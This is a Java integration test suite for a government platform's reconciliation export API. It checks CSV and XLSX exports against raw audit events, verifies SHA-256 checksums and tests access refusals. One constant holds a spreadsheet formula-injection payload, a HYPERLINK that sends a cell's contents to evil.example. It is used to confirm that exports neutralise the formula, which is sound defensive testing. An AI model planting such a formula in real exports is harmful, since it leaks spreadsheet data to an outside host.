package vn.lgsp.audit.reconciliation;

import static io.restassured.RestAssured.given;
import static org.hamcrest.Matchers.equalTo;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.common.QuarkusTestResource;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.response.Response;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.time.Instant;
import java.time.LocalDate;
import vn.lgsp.common.time.ProvinceCalendar;
import java.util.ArrayList;
import java.util.HexFormat;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.TreeMap;
import java.util.stream.Collectors;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.dhatim.fastexcel.reader.Sheet;
import org.junit.jupiter.api.Test;
import vn.lgsp.audit.support.Fixtures;
import vn.lgsp.testing.PlatformTestResource;
import vn.lgsp.testing.TestJwt;

/**
 * Đối soát: exports read back (CSV and XLSX) and matched against the raw events, the checksum recomputed
 * independently from what is in the file, formula injection neutralised, and both parties getting one checksum.
 */
@QuarkusTest
@QuarkusTestResource(PlatformTestResource.class)
class ReconciliationTest {

    static final String P = "000.00.41.H01";
    static final String Q = "000.00.41.H02";
    static final String R = "000.00.41.H03";
    static final String EVIL = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    private static void seed() {
        if (!Fixtures.query("SELECT 1 FROM audit_event WHERE consumer_agency = ? LIMIT 1", P).isEmpty()) {
            return;
        }
        Random rnd = new Random(7);
        Instant now = Instant.now();
        List<Map<String, Object>> events = new ArrayList<>();
        for (int i = 0; i < 60; i++) {
            Map<String, Object> e = switch (i % 4) {
                case 0 -> Fixtures.transaction(now, P, "HTTT-P1", Q, "HTTT-Q", "ho-tich", 200, 5);
                case 1 -> Fixtures.transaction(now, Q, "HTTT-Q", P, "HTTT-P2", "dat-dai", i % 8 == 1 ? 503 : 200, 9);
                case 2 -> Fixtures.transaction(now, P, "HTTT-P1", R, "HTTT-R", "ho-tich", i % 3 == 0 ? 404 : 200, 7);
                default -> Fixtures.transaction(now, R, EVIL, P, "HTTT-P2", "dat-dai", 200, 4);
            };
            e.put("requestBytes", (long) rnd.nextInt(1000));
            e.put("responseBytes", (long) rnd.nextInt(20_000));
            if (i % 3 == 0) {
                e.put("mode", "async");
            }
            events.add(e);
        }
        Fixtures.ingest(events);
        Fixtures.ingest(events.subList(0, 20)); // resent: must not count twice
    }

    /** The raw recount: rows of the report as CSV lines (without the role), from audit_event directly. */
    private static List<String> recount(String counterpart) {
        List<Map<String, Object>> raw = Fixtures.query("""
                SELECT consumer_agency, consumer_system, provider_agency, provider_system, service_code, service_version,
                  coalesce(mode, 'sync') AS mode, count(*) AS calls,
                  count(*) FILTER (WHERE status BETWEEN 400 AND 499) AS e4, count(*) FILTER (WHERE status >= 500) AS e5,
                  sum(request_bytes) AS rq, sum(response_bytes) AS rs
                FROM audit_event WHERE type = 'transaction' AND (consumer_agency = ? OR provider_agency = ?)
                  AND (?::text IS NULL OR consumer_agency = ?::text OR provider_agency = ?::text)
                GROUP BY 1, 2, 3, 4, 5, 6, 7""", P, P, counterpart, counterpart, counterpart);
        List<String> out = new ArrayList<>();
        for (Map<String, Object> r : raw) {
            String cs = (String) r.get("consumer_system");
            out.add(String.join(",", (String) r.get("consumer_agency"), cs.startsWith("=") ? "\"'" + cs.replace("\"", "\"\"") + "\"" : cs,
                    (String) r.get("provider_agency"), (String) r.get("provider_system"), (String) r.get("service_code"),
                    (String) r.get("service_version"), (String) r.get("mode"), r.get("calls").toString(),
                    r.get("e4").toString(), r.get("e5").toString(), r.get("rq").toString(), r.get("rs").toString()));
        }
        return out.stream().sorted().collect(Collectors.toList());
    }

    private static String sha256(String s) throws Exception {
        return HexFormat.of().formatHex(MessageDigest.getInstance("SHA-256").digest(s.getBytes(StandardCharsets.UTF_8)));
    }

    /** The README's canonical text, re-implemented here from the exported rows (without the role column). */
    private static String canonical(LocalDate from, LocalDate to, List<String> neutralRows) {
        StringBuilder sb = new StringBuilder("lgsp-reconciliation-v1\nperiod=" + from + "/" + to + "\n");
        sb.append("consumerAgency,consumerSystem,providerAgency,providerSystem,service,version,mode,calls,errors4xx,"
                + "errors5xx,requestBytes,responseBytes\n");
        neutralRows.stream().distinct().forEach(l -> sb.append(l).append('\n'));
        return sb.toString();
    }

    @Test
    void csvExportMatchesTheRawEventsAndItsChecksum() throws Exception {
        seed();
        LocalDate today = ProvinceCalendar.dateOf(Instant.now()); // the report's days are the province's
        Response resp = given().auth().oauth2(TestJwt.agencyAdmin(P)).queryParam("agency", P)
                .queryParam("from", today.toString()).queryParam("to", today.toString()).queryParam("format", "csv")
                .get("/api/v1/reconciliation");
        resp.then().statusCode(200).contentType("text/csv");
        String checksum = resp.header("X-LGSP-Checksum").substring("sha256=".length());
        List<String> lines = List.of(resp.asString().split("\r\n"));
        assertEquals("role,consumerAgency,consumerSystem,providerAgency,providerSystem,service,version,mode,calls,"
                + "errors4xx,errors5xx,requestBytes,responseBytes", lines.get(0));
        assertTrue(lines.get(lines.size() - 1).startsWith("# SHA-256 " + checksum));
        List<String> data = lines.subList(1, lines.size() - 1);
        List<String> neutral = new ArrayList<>();
        for (String l : data) {
            String role = l.substring(0, l.indexOf(','));
            String rest = l.substring(l.indexOf(',') + 1);
            assertEquals(role.equals("consumer"), rest.startsWith(P + ","), l);
            neutral.add(rest);
        }
        assertEquals(recount(null), neutral.stream().sorted().collect(Collectors.toList()));
        // the formula is inert: the cell starts with an apostrophe
        assertTrue(data.stream().anyMatch(l -> l.contains(",\"'=HYPERLINK(")), data.toString());
        assertTrue(data.stream().noneMatch(l -> l.contains(",=") || l.contains(",\"=")));
        assertEquals(checksum, sha256(canonical(today, today, neutral)));
    }

    @Test
    void xlsxExportReadsBackToTheSameRowsAndChecksum() throws Exception {
        seed();
        LocalDate today = ProvinceCalendar.dateOf(Instant.now()); // the report's days are the province's
        Response resp = given().auth().oauth2(TestJwt.operator()).queryParam("agency", P)
                .queryParam("from", today.minusDays(3).toString()).queryParam("to", today.toString())
                .queryParam("format", "xlsx").get("/api/v1/reconciliation");
        resp.then().statusCode(200)
                .contentType("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet");
        String checksum = resp.header("X-LGSP-Checksum").substring("sha256=".length());
        List<String> neutral = new ArrayList<>();
        Map<String, String> meta = new TreeMap<>();
        try (ReadableWorkbook wb = new ReadableWorkbook(new ByteArrayInputStream(resp.asByteArray()))) {
            List<Sheet> sheets = wb.getSheets().collect(Collectors.toList());
            List<Row> rows = sheets.get(0).read();
            assertEquals("role", rows.get(0).getCellText(0));
            for (Row row : rows.subList(1, rows.size())) {
                List<String> cells = new ArrayList<>();
                for (int c = 1; c < 13; c++) {
                    String text = row.getCellText(c);
                    if (c >= 8) {
                        text = new java.math.BigDecimal(text).toBigInteger().toString();
                    } else if (text.contains(",") || text.contains("\"")) {
                        text = "\"" + text.replace("\"", "\"\"") + "\"";
                    }
                    cells.add(text);
                }
                neutral.add(String.join(",", cells));
                String consumerSystem = row.getCellText(2);
                if (consumerSystem.contains("HYPERLINK")) {
                    assertEquals("'" + EVIL, consumerSystem);
                }
            }
            for (Row row : sheets.get(1).read()) {
                meta.put(row.getCellText(0), row.getCellText(1));
            }
        }
        assertEquals(recount(null), neutral.stream().sorted().collect(Collectors.toList()));
        assertEquals(checksum, meta.get("checksum"));
        assertEquals(checksum, sha256(canonical(today.minusDays(3), today, neutral)));
    }

    @Test
    void bothPartiesOfAPairGetTheSameChecksumAndJsonCarriesIt() {
        seed();
        LocalDate today = ProvinceCalendar.dateOf(Instant.now()); // the report's days are the province's
        Response mine = given().auth().oauth2(TestJwt.agencyAdmin(P)).queryParam("agency", P).queryParam("counterpart", Q)
                .queryParam("from", today.toString()).queryParam("to", today.toString()).get("/api/v1/reconciliation");
        Response theirs = given().auth().oauth2(TestJwt.agencyAdmin(Q)).queryParam("agency", Q).queryParam("counterpart", P)
                .queryParam("from", today.toString()).queryParam("to", today.toString()).get("/api/v1/reconciliation");
        mine.then().statusCode(200).body("checksum.algorithm", equalTo("SHA-256"));
        theirs.then().statusCode(200);
        assertEquals(mine.header("X-LGSP-Checksum"), theirs.header("X-LGSP-Checksum"));
        assertEquals(mine.header("X-LGSP-Checksum"), "sha256=" + mine.jsonPath().getString("checksum.value"));
        // P as consumer of Q (sync and async) and as provider to Q: separate rows, counted from the raw events
        List<Map<String, Object>> rows = mine.jsonPath().getList("rows");
        assertTrue(rows.stream().anyMatch(r -> "consumer".equals(r.get("role")) && "async".equals(r.get("mode"))));
        assertTrue(rows.stream().anyMatch(r -> "consumer".equals(r.get("role")) && "sync".equals(r.get("mode"))));
        assertTrue(rows.stream().anyMatch(r -> "provider".equals(r.get("role"))));
        long calls = rows.stream().mapToLong(r -> ((Number) r.get("calls")).longValue()).sum();
        assertEquals(30L, calls);
    }

    @Test
    void badRequestsAndOtherAgenciesAreRefused() {
        given().auth().oauth2(TestJwt.agencyAdmin(Q)).queryParam("agency", P).get("/api/v1/reconciliation")
                .then().statusCode(403).contentType("application/problem+json");
        given().auth().oauth2(TestJwt.operator()).get("/api/v1/reconciliation")
                .then().statusCode(400).body("errors[0].field", equalTo("agency"));
        given().auth().oauth2(TestJwt.operator()).queryParam("agency", P).queryParam("format", "pdf")
                .get("/api/v1/reconciliation").then().statusCode(400).body("errors[0].field", equalTo("format"));
        given().auth().oauth2(TestJwt.operator()).queryParam("agency", P).queryParam("from", "2020-01-01")
                .queryParam("to", "2026-01-01").get("/api/v1/reconciliation").then().statusCode(400)
                .body("errors[0].rule", equalTo("maxRange"));
    }
}
